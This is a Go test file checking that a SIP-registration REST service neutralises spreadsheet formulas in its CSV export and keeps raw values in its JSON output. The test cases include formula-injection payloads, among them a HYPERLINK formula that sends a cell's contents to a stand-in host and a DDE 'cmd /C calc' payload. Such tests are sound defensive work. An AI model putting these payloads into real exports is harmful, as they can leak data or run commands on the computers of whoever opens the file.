package rest

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/kamreg/kamreg"
)

// TestCSVNeutralisesFormulas: a cell a spreadsheet would run as a formula
// starts with a single quote in the CSV; the JSON list keeps the phone's
// text byte for byte.
func TestCSVNeutralisesFormulas(t *testing.T) {
	tests := []struct {
		name, agent string
		// raw is the cell as written in the CSV, cell as a CSV reader reads it.
		raw, cell string
		// json is the user_agent value as written in the JSON list.
		json string
	}{
		{"hyperlink", `=HYPERLINK("http://x/?"&A2,"open")`,
			`"'=HYPERLINK(""http://x/?""&A2,""open"")"`, `'=HYPERLINK("http://x/?"&A2,"open")`,
			`"=HYPERLINK(\"http://x/?\"&A2,\"open\")"`},
		{"dde", `+1+cmd|' /C calc'!A0`, `'+1+cmd|' /C calc'!A0`, `'+1+cmd|' /C calc'!A0`, `"+1+cmd|' /C calc'!A0"`},
		{"at", `@SUM(1+1)`, `'@SUM(1+1)`, `'@SUM(1+1)`, `"@SUM(1+1)"`},
		{"minus", `-2+3`, `'-2+3`, `'-2+3`, `"-2+3"`},
		{"tab", "\t=1+1", "'\t=1+1", "'\t=1+1", `"\t=1+1"`},
		{"carriage return", "\r=1+1", "\"'\r=1+1\"", "'\r=1+1", `"\r=1+1"`},
		{"plain", `Yealink SIP-T46S 66.86.0.15`, `Yealink SIP-T46S 66.86.0.15`, `Yealink SIP-T46S 66.86.0.15`, `"Yealink SIP-T46S 66.86.0.15"`},
		{"formula later in the cell", `Linphone =1+1`, `Linphone =1+1`, `Linphone =1+1`, `"Linphone =1+1"`},
		{"quote first", `'quoted`, `'quoted`, `'quoted`, `"'quoted"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			regs := sampleRegistrations()[:1]
			regs[0].UserAgent = tt.agent
			s := newTestServer(t, fakeRegistrations{ListFn: func(kamreg.ListQuery) (kamreg.Page, error) {
				return kamreg.Page{Entries: regs}, nil
			}}, nil)
			w := do(s, "GET", base+"?accept=csv", goodTok)
			if w.Code != 200 {
				t.Fatalf("%d %s", w.Code, w.Body)
			}
			// user_agent is neither the first nor the last column.
			if !strings.Contains(w.Body.String(), ","+tt.raw+",") {
				t.Errorf("CSV has no cell %q:\n%s", tt.raw, w.Body)
			}
			rows, err := csv.NewReader(strings.NewReader(w.Body.String())).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.cell, rows[1][22]); diff != "" {
				t.Errorf("user_agent cell (-want +got):\n%s", diff)
			}
			j := do(s, "GET", base, goodTok)
			var env struct {
				Data []map[string]json.RawMessage `json:"data"`
			}
			if err := json.Unmarshal(j.Body.Bytes(), &env); err != nil || len(env.Data) != 1 {
				t.Fatalf("JSON %v: %s", err, j.Body)
			}
			if diff := cmp.Diff(tt.json, string(env.Data[0]["user_agent"])); diff != "" {
				t.Errorf("JSON user_agent (-want +got):\n%s", diff)
			}
		})
	}
}

// TestCSVCellsOtherThanUserAgent: every column is neutralised, not only
// the User-Agent (a Call-ID or a Contact is the phone's too).
func TestCSVCellsOtherThanUserAgent(t *testing.T) {
	regs := sampleRegistrations()[:1]
	regs[0].CallID = "=cmd"
	regs[0].Username, regs[0].ToUser, regs[0].FromUser = "@u", "@u", "@u"
	s := newTestServer(t, fakeRegistrations{ListFn: func(kamreg.ListQuery) (kamreg.Page, error) {
		return kamreg.Page{Entries: regs}, nil
	}}, nil)
	w := do(s, "GET", base+"?accept=csv", goodTok)
	rows, err := csv.NewReader(strings.NewReader(w.Body.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for i, k := range rows[0] {
		got[k] = rows[1][i]
	}
	want := map[string]string{"call_id": "'=cmd", "username": "'@u", "to_user": "'@u", "from_user": "'@u"}
	for k, v := range want {
		if got[k] != v {
			t.Errorf("%s: %q, want %q", k, got[k], v)
		}
	}
}
